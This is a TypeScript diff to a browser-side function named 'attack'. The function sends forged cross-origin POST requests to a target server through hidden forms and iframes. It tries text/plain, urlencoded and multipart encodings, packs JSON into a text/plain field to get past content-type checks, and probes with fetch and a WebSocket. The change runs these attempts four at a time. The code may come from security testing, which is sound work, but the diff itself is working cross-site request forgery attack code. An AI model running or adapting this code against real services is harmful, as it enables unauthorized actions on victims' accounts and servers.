@@ -9,13 +9,12 @@ export async function attack({ target, calls }: Attack): Promise<Tried> {
   const tried: Tried = { sent: 0, read: [], socket: 'refused' };
   const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
   const within = <T>(work: Promise<T>) => Promise.race([work.catch(() => undefined), wait(2_000)]);
-  const frame = document.createElement('iframe');
-  frame.name = 'away';
-  document.body.append(frame);
-
-  function submit(url: string, type: string, input: Record<string, string | number | string[]>): Promise<unknown> {
+  function submit(
+    frame: HTMLIFrameElement,
+    { url, type, input }: { url: string; type: string; input: Attack['calls'][number]['input'] },
+  ): Promise<unknown> {
     const form = document.createElement('form');
-    Object.assign(form, { method: 'POST', action: url, enctype: type, target: 'away' });
+    Object.assign(form, { method: 'POST', action: url, enctype: type, target: frame.name });
     // A field whose name and value together are the JSON, with the `=` between them inside a text.
     const json = JSON.stringify({ ...input, x: '' });
     const fields = type === 'text/plain' ? [[json.slice(0, -2), '"}']] : Object.entries(input);
@@ -31,11 +30,11 @@ export async function attack({ target, calls }: Attack): Promise<Tried> {
     return within(loaded);
   }
 
-  for (const { path, input } of calls) {
+  async function tryCall(frame: HTMLIFrameElement, { path, input }: Attack['calls'][number]): Promise<void> {
     const url = target + path;
     const json = JSON.stringify(input);
     for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
-      await submit(url, type, input);
+      await submit(frame, { url, type, input });
       tried.sent++;
       await within(
         fetch(url, {
@@ -79,6 +78,17 @@ export async function attack({ target, calls }: Attack): Promise<Tried> {
     frame.src = query;
     await within(loaded);
   }
+
+  // Some at a time: nearly all of it is waiting.
+  const waiting = calls.values();
+  await Promise.all(
+    ['one', 'two', 'three', 'four'].map(async (name) => {
+      const frame = document.createElement('iframe');
+      frame.name = name;
+      document.body.append(frame);
+      for (const call of waiting) await tryCall(frame, call);
+    }),
+  );
   await within(
     new Promise<void>((resolve) => {
       const socket = new WebSocket(`${target.replace('http', 'ws')}/ws/G01`);
